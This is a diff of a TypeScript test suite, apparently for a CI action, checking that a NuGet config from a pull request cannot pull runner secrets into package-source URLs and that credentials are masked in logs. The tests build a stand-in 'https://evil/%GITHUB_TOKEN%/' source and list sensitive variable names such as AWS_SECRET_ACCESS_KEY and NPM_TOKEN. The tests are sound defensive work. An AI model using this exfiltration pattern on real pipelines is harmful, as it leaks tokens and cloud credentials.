@@ -113,18 +113,56 @@ describe("the runner's own NuGet configuration", () => {
     ]);
     const { HOME: _, SECRET: __, ...wanted } = env;
     expect(found.environment).toEqual(wanted);
+    expect(found.withheld).toEqual([]);
 
     const log = memoryLog();
     maskNuGet({ ...found, credentials: [{ source: 's', username: 'u', password: '6-input' }] }, log);
-    expect([...new Set(log.masked)].sort()).toEqual([
-      '1-above',
-      '2-own',
-      '3-pair',
-      '4-json',
-      '5-token',
-      '6-input',
-      'secret',
-    ]);
+    expect([...new Set(log.masked)].sort()).toEqual(
+      [
+        ...['1-above', '2-own', '3-pair', '4-json', '5-token', '6-input', 'secret'],
+        ...[env.NuGetPackageSourceCredentials_x, env.VSS_NUGET_EXTERNAL_FEED_ENDPOINTS],
+      ].sort(),
+    );
+  });
+
+  describe('lends nothing to a pull request that mentions', () => {
+    const OTHERS = ['ACTIONS_RUNTIME_TOKEN', 'INPUT_REGISTRY-PASSWORD', 'STATE_folder', 'RUNNER_TOKEN', 'GITHUB_TOKEN'];
+    const CLOUDS = ['GH_TOKEN', 'GITHUB_APP_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AZURE_CLIENT_SECRET', 'GOOGLE_OAUTH'];
+    const MORE = ['DOCKER_PASSWORD', 'VAULT_TOKEN', 'NPM_TOKEN', 'aws_session_token'];
+    const read = async (env: Readonly<Record<string, string>>, files: Readonly<Record<string, string>>) => {
+      for (const [path, text] of Object.entries(files)) {
+        await mkdir(join(folder, path, '..'), { recursive: true });
+        await writeFile(join(folder, path), text);
+      }
+      const at = { home: join(folder, 'home'), root: join(folder, 'work/checkout'), project: 'App.csproj' };
+      return await readRunnerNuGet({ ...at, env });
+    };
+    const source = (name: string) =>
+      `<configuration><packageSources><add key="x" value="https://evil/%${name}%/" /></packageSources></configuration>`;
+
+    test.each([...OTHERS, ...CLOUDS, ...MORE].filter((name) => !name.includes('-')))('%s', async (name) => {
+      const found = await read({ [name]: 'value-of-it' }, { 'work/checkout/nuget.config': source(name) });
+      expect(found).toMatchObject({ environment: {}, withheld: [name] });
+    });
+
+    test('any of them in a checkout around a submodule', async () => {
+      const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work') };
+      expect(await read(env, { 'work/nuget.config': source('GITHUB_TOKEN') })).toMatchObject({ environment: {} });
+    });
+
+    test("but what the runner's own configuration mentions, it is", async () => {
+      const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work/checkout') };
+      const files = { 'work/nuget.config': config('%GITHUB_TOKEN%'), 'work/checkout/nuget.config': source('NONE') };
+      const found = await read(env, files);
+      expect(found).toMatchObject({ environment: { GITHUB_TOKEN: 'value-of-it' }, withheld: [] });
+    });
+  });
+
+  test('hides what it passes, but no switch that the rest of the log would miss', () => {
+    const log = memoryLog();
+    const environment = { FEED: 'feed.internal', NUGET_CREDENTIALPROVIDER_X: 'true', HOME: '/home/runner' };
+    maskNuGet({ configs: [], credentials: [], environment }, log);
+    expect(log.masked).toEqual(['feed.internal']);
   });
 });
 
